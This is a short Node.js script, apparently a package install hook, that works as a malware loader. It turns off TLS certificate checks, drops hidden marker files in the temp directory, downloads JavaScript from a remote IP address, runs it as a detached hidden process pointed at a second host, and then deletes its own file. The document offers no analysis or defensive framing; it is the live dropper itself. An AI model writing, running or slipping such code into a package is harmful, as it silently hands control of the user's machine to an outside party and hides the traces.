process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');
const { spawn } = require('child_process');
const temp = os.tmpdir();
try {
  fs.writeFileSync(path.join(temp, '.pkg_history'), __dirname);
  fs.writeFileSync(path.join(temp, '.pkg_logs'), Buffer.from('easy-day-js').map((byte) => byte | 0x80));
} catch (error) {}
const first = 'https://203.0.113.92:8000/update/49890878';
const second = '203.0.113.123:443';
https.get(first, (response) => {
  const parts = [];
  response.on('data', (part) => parts.push(part));
  response.on('end', () => {
    const target = path.join(temp, crypto.randomBytes(12).toString('hex') + '.js');
    fs.writeFileSync(target, Buffer.concat(parts));
    const child = spawn(process.execPath, [target, second], { detached: true, stdio: 'ignore', windowsHide: true });
    child.unref();
    fs.unlinkSync(__filename);
  });
}).on('error', () => {});
